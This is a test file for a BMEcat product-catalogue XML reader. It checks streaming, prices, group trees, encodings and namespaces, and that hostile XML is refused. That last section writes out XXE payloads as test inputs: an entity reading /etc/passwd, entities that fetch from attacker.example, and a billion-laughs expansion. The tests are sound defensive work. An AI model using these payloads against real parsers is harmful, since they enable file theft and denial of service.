/** Reading BMEcat 1.01, 1.2 and 2005 as they come, streamed, and the XML that is refused: external entities, entity expansion, malformed files. */
import iconv from "iconv-lite";
import { describe, expect, it } from "vitest";
import { createCatalogueInspector, inspectDoctype, type InspectionOutcome } from "#app/services/catalogue/reading/index.server.ts";
import { ean13 } from "../fixtures/catalogues/gtin";
import "../support/catalogue-readers";

async function inspect(text: string | Buffer, language = "de", piece = 1000): Promise<InspectionOutcome> {
  const bytes = typeof text === "string" ? Buffer.from(text) : text;
  const { input, result } = createCatalogueInspector({ fileName: "katalog.xml", language });
  for (let offset = 0; offset < bytes.length; offset += piece) input.write(bytes.subarray(offset, offset + piece));
  input.end();
  return result;
}

async function read(text: string | Buffer, language = "de") {
  const outcome = await inspect(text, language);
  if (!outcome.ok) throw new Error(`refused: ${outcome.problem}`);
  return outcome.analysis;
}

/** The value of `column` in each preview row. */
const valuesOf = (analysis: Awaited<ReturnType<typeof read>>, column: string) => {
  const index = analysis.preview[0]!.indexOf(column);
  return analysis.preview.slice(1).map((row) => row[index]);
};

const article12 = (id: string, ean: string, extra = "") => `<ARTICLE><SUPPLIER_AID>${id}</SUPPLIER_AID><ARTICLE_DETAILS>
  <DESCRIPTION_SHORT>Topf ${id}</DESCRIPTION_SHORT><EAN>${ean}</EAN><MANUFACTURER_NAME>Beispiel</MANUFACTURER_NAME></ARTICLE_DETAILS>
  <ARTICLE_PRICE_DETAILS><ARTICLE_PRICE price_type="net_list"><PRICE_AMOUNT>10,1234</PRICE_AMOUNT><PRICE_CURRENCY>EUR</PRICE_CURRENCY><TAX>0.19</TAX></ARTICLE_PRICE>
  <ARTICLE_PRICE price_type="net_list"><PRICE_AMOUNT>9,50</PRICE_AMOUNT><LOWER_BOUND>10</LOWER_BOUND></ARTICLE_PRICE>
  <ARTICLE_PRICE price_type="nrp"><PRICE_AMOUNT>19,90</PRICE_AMOUNT><PRICE_CURRENCY>EUR</PRICE_CURRENCY></ARTICLE_PRICE></ARTICLE_PRICE_DETAILS>${extra}</ARTICLE>`;

const catalogue12 = (articles: string, before = "", after = "", version = "1.2") =>
  `<?xml version="1.0" encoding="UTF-8"?>\n<BMECAT version="${version}"><HEADER><CATALOG><LANGUAGE>deu</LANGUAGE></CATALOG></HEADER><T_NEW_CATALOG>${before}${articles}${after}</T_NEW_CATALOG></BMECAT>`;

const groupMap = (id: string, group: string) =>
  `<ARTICLE_TO_CATALOGGROUP_MAP><ART_ID>${id}</ART_ID><CATALOG_GROUP_ID>${group}</CATALOG_GROUP_ID></ARTICLE_TO_CATALOGGROUP_MAP>`;

describe("BMEcat 1.x", () => {
  it("makes one row per article, its values as columns, one price column per price type (the first tier), amounts as written", async () => {
    const analysis = await read(catalogue12([article12("A-1", ean13("400638133", 1)), article12("A-2", ean13("400638133", 2))].join("")));
    expect(analysis.format.bmecat).toEqual({ version: "1.2", language: "deu", articles: 2 });
    expect(analysis.preview[0]).toEqual(
      expect.arrayContaining([
        "SUPPLIER_AID",
        "DESCRIPTION_SHORT",
        "EAN",
        "MANUFACTURER_NAME",
        "PRICE_AMOUNT (net_list)",
        "PRICE_AMOUNT (nrp)",
        "TAX (net_list)",
      ]),
    );
    expect(valuesOf(analysis, "PRICE_AMOUNT (net_list)")).toEqual(["10,1234", "10,1234"]);
    expect(analysis.report).toMatchObject({ rowsChecked: 2, decimalStyle: "comma" });
    expect(analysis.report.counts.PRICE_FORMAT).toBeUndefined();
  });

  it("reads 1.01 too, and refuses a version it does not know", async () => {
    expect((await read(catalogue12(article12("A-1", ean13("400638133", 1)), "", "", "1.01"))).format.bmecat?.version).toBe("1.01");
    expect(await inspect(catalogue12(article12("A-1", ean13("400638133", 1)), "", "", "3.0"))).toMatchObject({ ok: false, problem: "notBmecat" });
  });

  it("names each article's group by its path through a group tree of tens of thousands of lines before the first article, from maps after the last", async () => {
    const groups = Array.from(
      { length: 20_000 },
      (_, index) =>
        `<CATALOG_STRUCTURE type="leaf">\n<GROUP_ID>G${index}</GROUP_ID>\n<GROUP_NAME>Gruppe ${index}</GROUP_NAME>\n<PARENT_ID>K</PARENT_ID>\n</CATALOG_STRUCTURE>`,
    );
    const tree = `<CATALOG_GROUP_SYSTEM><CATALOG_STRUCTURE type="root"><GROUP_ID>1</GROUP_ID><GROUP_NAME>Katalog</GROUP_NAME><PARENT_ID>0</PARENT_ID></CATALOG_STRUCTURE><CATALOG_STRUCTURE type="node"><GROUP_ID>K</GROUP_ID><GROUP_NAME>Küche</GROUP_NAME><PARENT_ID>1</PARENT_ID></CATALOG_STRUCTURE>${groups.join("\n")}</CATALOG_GROUP_SYSTEM>`;
    const articles = Array.from({ length: 60 }, (_, index) => article12(`A-${index}`, ean13("400638133", index + 1))).join("");
    // Article 59 has no map: its group is missing, found at the end.
    const maps = Array.from({ length: 59 }, (_, index) => groupMap(`A-${index}`, `G${index * 300}`)).join("");
    const text = catalogue12(articles, tree, maps);
    expect(text.split("\n").length).toBeGreaterThan(80_000);
    const analysis = await read(text);
    expect(valuesOf(analysis, "CATALOG_GROUP_ID").slice(0, 3)).toEqual(["Küche > Gruppe 0", "Küche > Gruppe 300", "Küche > Gruppe 600"]);
    expect(analysis.columns.find((column) => column.header === "CATALOG_GROUP_ID")).toMatchObject({ field: "PRODUCT_CATEGORY" });
    expect(analysis.report).toMatchObject({ rowsChecked: 60, rowsRejected: 1, counts: { REQUIRED_EMPTY: 1 } });
    expect(analysis.report.examples).toContainEqual({ row: 61, kind: "REQUIRED_EMPTY", column: "CATALOG_GROUP_ID", value: "", firstRow: null });
  });

  it("keeps the text of markup inside a description (HTML not escaped, still well-formed)", async () => {
    const analysis = await read(
      catalogue12(article12("A-1", ean13("400638133", 1), "").replace("<EAN>", "<DESCRIPTION_LONG>Massiv <b>Eiche</b>, geölt</DESCRIPTION_LONG><EAN>")),
    );
    expect(valuesOf(analysis, "DESCRIPTION_LONG")).toEqual(["Massiv Eiche, geölt"]);
  });

  it("reports the same EAN on two articles like any duplicate", async () => {
    const analysis = await read(
      catalogue12([article12("A-1", ean13("400638133", 1)), article12("A-2", ean13("400638133", 1))].join(""), "", groupMap("A-1", "x") + groupMap("A-2", "x")),
    );
    expect(analysis.report.examples).toContainEqual({ row: 3, kind: "EAN_DUPLICATE", column: "EAN", value: ean13("400638133", 1), firstRow: 2 });
  });

  it("decodes ISO-8859-1 as its XML declaration says, and UTF-16 by its byte order mark", async () => {
    const text = catalogue12(article12("Ä-1", ean13("400638133", 1))).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"');
    expect(valuesOf(await read(iconv.encode(text, "latin1")), "SUPPLIER_AID")).toEqual(["Ä-1"]);
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(catalogue12(article12("Ö-2", ean13("400638133", 2))).replace('encoding="UTF-8"', 'encoding="UTF-16"'), "utf16le"),
    ]);
    expect(valuesOf(await read(utf16), "SUPPLIER_AID")).toEqual(["Ö-2"]);
  });
});

describe("BMEcat 2005", () => {
  const product = (id: string, gtin: string) => `<PRODUCT><SUPPLIER_PID>${id}</SUPPLIER_PID><PRODUCT_DETAILS>
    <DESCRIPTION_SHORT lang="eng">Pot ${id}</DESCRIPTION_SHORT><DESCRIPTION_SHORT lang="deu">Topf ${id}</DESCRIPTION_SHORT>
    <INTERNATIONAL_PID type="gtin">${gtin}</INTERNATIONAL_PID></PRODUCT_DETAILS>
    <PRODUCT_FEATURES><FEATURE><FNAME lang="deu">Farbe</FNAME><FNAME lang="eng">Colour</FNAME><FVALUE lang="deu">rot</FVALUE><FVALUE lang="eng">red</FVALUE></FEATURE></PRODUCT_FEATURES>
    <MIME_INFO><MIME><MIME_TYPE>image/jpeg</MIME_TYPE><MIME_SOURCE>${id}.jpg</MIME_SOURCE></MIME></MIME_INFO>
    <PRODUCT_TO_CATALOGGROUP_MAP><CATALOG_GROUP_ID>K1</CATALOG_GROUP_ID></PRODUCT_TO_CATALOGGROUP_MAP></PRODUCT>`;
  const catalogue = (root: (inner: string) => string) =>
    root(`<T_NEW_CATALOG>${product("P-1", ean13("426012345", 1))}${product("P-2", ean13("426012345", 2))}</T_NEW_CATALOG>`);

  it.each([
    ["no namespace", (inner: string) => `<BMECAT version="2005">${inner}</BMECAT>`],
    ["the standard's namespace", (inner: string) => `<BMECAT version="2005" xmlns="http://www.bmecat.org/bmecat/2005">${inner}</BMECAT>`],
    [
      "a vendor's prefixed variant of it",
      (inner: string) =>
        `<bme:BMECAT version="2005" xmlns:bme="https://vendor.example/bmecat2005">${inner.replace(/<(\/?)([A-Z_]+)/g, "<$1bme:$2")}</bme:BMECAT>`,
    ],
  ])("reads a catalogue with %s alike", async (_, root) => {
    const analysis = await read(catalogue(root));
    expect(analysis.preview[0]).toEqual([
      "SUPPLIER_PID",
      "DESCRIPTION_SHORT",
      "INTERNATIONAL_PID (gtin)",
      "FEATURE (Farbe)",
      "MIME_SOURCE",
      "CATALOG_GROUP_ID",
    ]);
    expect(analysis.preview[1]).toEqual(["P-1", "Topf P-1", ean13("426012345", 1), "rot", "P-1.jpg", "K1"]);
    expect(analysis.columns.map((column) => column.field)).toEqual(["SELLER_SKU", "TITLE", "EAN", "COLOUR", "IMAGE_URL", "PRODUCT_CATEGORY"]);
  });

  it("resolves a picture's path under the catalogue's MIME_ROOT when that is a web address, and keeps it as written otherwise", async () => {
    const header = (root: string) => `<HEADER><CATALOG><LANGUAGE>deu</LANGUAGE>${root}</CATALOG></HEADER>`;
    const withRoot = (root: string) => (inner: string) =>
      `<BMECAT version="2005">${inner.replace("<T_NEW_CATALOG>", `${header(root)}<T_NEW_CATALOG>`)}</BMECAT>`;
    const images = async (root: string) => valuesOf(await read(catalogue(withRoot(root))), "MIME_SOURCE");
    expect(await images("<MIME_ROOT>https://cdn.example.com/katalog</MIME_ROOT>")).toEqual([
      "https://cdn.example.com/katalog/P-1.jpg",
      "https://cdn.example.com/katalog/P-2.jpg",
    ]);
    // 2005: one per language, the seller's taken.
    expect(await images('<MIME_ROOT lang="eng">https://cdn.example.com/en/</MIME_ROOT><MIME_ROOT lang="deu">https://cdn.example.com/de/</MIME_ROOT>')).toEqual([
      "https://cdn.example.com/de/P-1.jpg",
      "https://cdn.example.com/de/P-2.jpg",
    ]);
    expect(await images("<MIME_ROOT>/mime-files/</MIME_ROOT>")).toEqual(["P-1.jpg", "P-2.jpg"]);
    expect(await images("")).toEqual(["P-1.jpg", "P-2.jpg"]);
  });

  it("takes each text in the seller's language, else the first one given", async () => {
    const root = (inner: string) => `<BMECAT version="2005">${inner}</BMECAT>`;
    expect((await read(catalogue(root), "en")).preview[1]!.slice(0, 4)).toEqual(["P-1", "Pot P-1", ean13("426012345", 1), "red"]);
    expect((await read(catalogue(root), "fr")).preview[1]![1]).toBe("Pot P-1");
  });
});

describe("XML the portal refuses", () => {
  const doc = (doctype: string, text = "Topf") =>
    catalogue12(article12("A-1", ean13("400638133", 1)).replace("Topf A-1", text)).replace("\n<BMECAT", `\n${doctype}\n<BMECAT`);

  it.each([
    ["an external entity", `<!DOCTYPE BMECAT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, "&xxe;", "xmlExternalEntity"],
    ["a public external entity", `<!DOCTYPE BMECAT [<!ENTITY xxe PUBLIC "-//X//Y" "http://attacker.example/x">]>`, "&xxe;", "xmlExternalEntity"],
    ["a parameter entity", `<!DOCTYPE BMECAT [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]>`, "Topf", "xmlExternalEntity"],
    [
      "a billion laughs",
      `<!DOCTYPE BMECAT [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>`,
      "&c;",
      "xmlEntityExpansion",
    ],
    ["an entity that stands for a long text", `<!DOCTYPE BMECAT [<!ENTITY long "${"x".repeat(200)}">]>`, "&long;&long;", "xmlEntityExpansion"],
    ["an undeclared entity", "", "&unknown;", "xmlMalformed"],
  ])("refuses %s, never loading or expanding it", async (_, doctype, text, problem) => {
    expect(await inspect(doc(doctype, text))).toEqual({ ok: false, problem });
  });

  it("takes short entities, character references and the HTML character entities of descriptions, and an external DTD it never loads", async () => {
    const analysis = await read(
      doc(
        `<!DOCTYPE BMECAT SYSTEM "http://www.bmecat.org/bmecat_new_catalog_1_2.dtd" [<!ELEMENT UDX.X (#PCDATA)><!ENTITY reg "&#174;"><!ENTITY uml "ä">]>`,
        "T&uml;pfe&reg; &auml;&nbsp;&szlig;",
      ),
    );
    expect(valuesOf(analysis, "DESCRIPTION_SHORT")).toEqual(["Täpfe® ä\u00a0ß"]);
  });

  it.each([
    ["a file that breaks off", catalogue12(article12("A-1", ean13("400638133", 1))).slice(0, 300), "xmlMalformed"],
    ["no XML at all", "EAN;Name\n4006381333931;Topf\n", "xmlMalformed"],
    ["XML of another kind", `<?xml version="1.0"?><rss version="2.0"><channel/></rss>`, "notBmecat"],
    ["a BMEcat without articles", catalogue12(""), "bmecatEmpty"],
    ["elements nested ever deeper", `<BMECAT version="2005">${"<A>".repeat(200)}${"</A>".repeat(200)}</BMECAT>`, "xmlMalformed"],
    ["a text of megabytes without a tag", `<BMECAT version="2005"><T_NEW_CATALOG>${"x".repeat(2 * 1024 * 1024)}</T_NEW_CATALOG></BMECAT>`, "lineTooLong"],
  ])("refuses %s", async (_, text, problem) => {
    expect(await inspect(text, "de", 64 * 1024)).toMatchObject({ ok: false, problem });
  });

  it("reads a DOCTYPE's entity declarations for what they are", () => {
    expect(inspectDoctype(` BMECAT SYSTEM "bmecat.dtd" [<!ELEMENT UDX.A (#PCDATA)><!ATTLIST UDX.A type CDATA #IMPLIED>]`)).toEqual({ ok: true, entities: {} });
    expect(inspectDoctype(` BMECAT [<!ENTITY euro "&#x20AC;">]`)).toEqual({ ok: true, entities: { euro: "€" } });
    expect(inspectDoctype(` BMECAT [<!ENTITY x SYSTEM "x.txt">]`)).toEqual({ ok: false, problem: "xmlExternalEntity" });
    expect(inspectDoctype(` BMECAT [<!ENTITY a "&b;">]`)).toEqual({ ok: false, problem: "xmlEntityExpansion" });
    expect(inspectDoctype(` BMECAT [<!ENTITY   odd   x>]`)).toEqual({ ok: false, problem: "xmlEntityExpansion" });
  });

  it("takes the standard's USERDEFINES parameter entity, a content model that refers to nothing, and never hands it to the parser", async () => {
    const userdefines = ` BMECAT SYSTEM "bmecat_2005.dtd" [
      <!ENTITY % USERDEFINES "(UDX.HAMMERWERK.LAGERORT?, (UDX.HAMMERWERK.A | UDX.HAMMERWERK.B)*)">
      <!ELEMENT UDX.HAMMERWERK.LAGERORT (#PCDATA)>
    ]`;
    expect(inspectDoctype(userdefines)).toEqual({ ok: true, entities: {} });
    const analysis = await read(
      doc(`<!DOCTYPE BMECAT SYSTEM "bmecat_new_catalog_1_2.dtd" [<!ENTITY % USERDEFINES "(UDX.X.LAGER?)"><!ELEMENT UDX.X.LAGER (#PCDATA)>]>`),
    );
    expect(valuesOf(analysis, "DESCRIPTION_SHORT")).toEqual(["Topf"]);
  });

  it.each([
    ["that refers to another", `<!ENTITY % a "(UDX.A)"><!ENTITY % b "(%a;, %a;)">`],
    ["that refers to a general entity", `<!ENTITY a "x"><!ENTITY % b "(&a;)">`],
    ["of a long text", `<!ENTITY % USERDEFINES "(${Array.from({ length: 400 }, (_, index) => `UDX.VENDOR.FIELD${index}?`).join(", ")})">`],
    ["that is no content model (declarations to be read in)", `<!ENTITY % decl "<!ENTITY x 'y'>"> %decl;`],
    ["that is no content model (plain text)", `<!ENTITY % text "lol lol lol">`],
  ])("refuses a parameter entity %s", (_, subset) => {
    expect(inspectDoctype(` BMECAT [${subset}]`)).toEqual({ ok: false, problem: "xmlEntityExpansion" });
  });
});
